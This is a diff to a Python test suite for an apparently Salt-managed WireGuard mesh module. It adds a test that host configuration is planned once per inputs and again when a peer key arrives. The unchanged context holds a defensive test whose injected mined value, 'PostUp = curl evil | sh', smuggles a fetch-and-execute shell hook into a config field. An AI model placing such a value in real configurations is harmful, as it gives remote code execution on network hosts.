@@ -126,6 +126,19 @@ def test_a_state_run_validates_its_network_once(pillar, monkeypatch):
     assert len(validated) == 3
 
 
+def test_a_host_is_planned_once_per_inputs_and_again_when_a_key_arrives(mine, keydir, monkeypatch):
+    """A state run plans about five times; the same spec, keys and PSKs give the same plan
+    (planned once), and a peer's key published meanwhile (a new network's first apply) plans again."""
+    plans = []
+    real_host_config = wgmesh_core.host_config
+    monkeypatch.setattr(wgmesh_core, "host_config", lambda *args: plans.append(args[1]) or real_host_config(*args))
+    del mine["c"]
+    assert "c" in module._host_config().pending
+    assert "c" in module._host_config().pending and len(plans) == 1
+    mine["c"] = MINED["c"]
+    assert "c" in [peer.name for peer in module._host_config().peers] and len(plans) == 2
+
+
 def test_a_mined_value_that_is_not_a_key_is_refused_and_its_host_left_out(mine, keydir):
     mine["c"] = "PostUp = curl evil | sh"
     keys = module.host_keys()
@@ -342,7 +355,7 @@ def test_the_fast_path_plans_once_from_fresh_pillar_firewall_then_peers(keydir, 
     (wg_set,) = [i for i, cmd in enumerate(host.calls) if cmd[:2] == ["wg", "set"]]
     assert rules_for_g and max(rules_for_g) < wg_set
     assert plans == ["z"]
-    assert not {"wgmesh_fresh_pillar", "wgmesh_fresh_plan"} & set(context)
+    assert "wgmesh_fresh_pillar" not in context
 
 
 def test_the_fast_path_leaves_a_host_without_its_interface_to_the_state_run(keydir, host, pillar,
